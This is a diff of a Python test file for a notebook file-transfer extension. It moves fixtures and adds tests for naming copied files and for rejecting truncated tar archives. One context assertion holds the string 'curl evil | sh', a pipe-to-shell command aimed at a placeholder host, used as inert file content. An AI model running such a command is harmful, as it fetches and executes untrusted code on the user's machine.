@@ -8,7 +8,6 @@ print control characters in the notebook.
 """
 
 import base64
-import hashlib
 import io
 import json
 import os
@@ -22,30 +21,14 @@ import pytest
 
 from fiddledock_magic import _archive, _files, _spec
 from fiddledock_magic._agent_files import filehelper_source
-from fiddledock_magic._errors import TransferError
+from fiddledock_magic._errors import TransferError, UnsafeArchive
 from fiddledock_magic._extension import manager_of
-from fiddledock_agent import MODULES, filehelper
+from fiddledock_agent import MODULES
 
 from conftest import stream_text
-from test_files import make_tar, sha, snapshot
+from test_files import limit, line, make_tar, sha, snapshot  # noqa: F401 (fixtures)
 
 MiB = 1 << 20
-
-
-@pytest.fixture
-def line(line_magic):
-    return line_magic
-
-
-@pytest.fixture
-def limit(shell):
-    config = manager_of(shell).config
-    before = config.transfer_limit
-
-    def _set(value):
-        config.transfer_limit = value
-    yield _set
-    config.transfer_limit = before
 
 
 def as_sandbox_user(code):
@@ -223,6 +206,21 @@ def test_get_names_the_copy_after_the_path_asked_for(run, line, unique_name, tmp
     assert (home / "summary.txt").read_text() == "curl evil | sh\n"
     assert "-> %s (" % (home / "results") in first
     assert "-> %s (" % (home / "summary.txt") in second
+
+
+def test_the_copys_name_comes_from_the_path_or_from_local(tmp_path):
+    assert _files.local_destination(str(tmp_path), "/home/sandbox/x/") == str(tmp_path / "x")
+    assert _files.local_destination(str(tmp_path / "new"), "..") == str(tmp_path / "new")
+    for path in (".", "/", "a/.."):
+        with pytest.raises(TransferError, match="give the copy's new name"):
+            _files.local_destination(str(tmp_path), path)
+
+
+def test_a_truncated_archive_leaves_nothing(tmp_path):
+    data = make_tar([("top", "dir", None), ("top/a", "file", b"a" * 100_000)])
+    with pytest.raises(UnsafeArchive, match="broken archive: unexpected end of data"):
+        _archive.extract(io.BytesIO(data[:50_000]), str(tmp_path / "copy"), MiB)
+    assert os.listdir(tmp_path) == []
 
 
 def test_an_existing_target_is_replaced_only_with_force(run, line, unique_name, tmp_path):
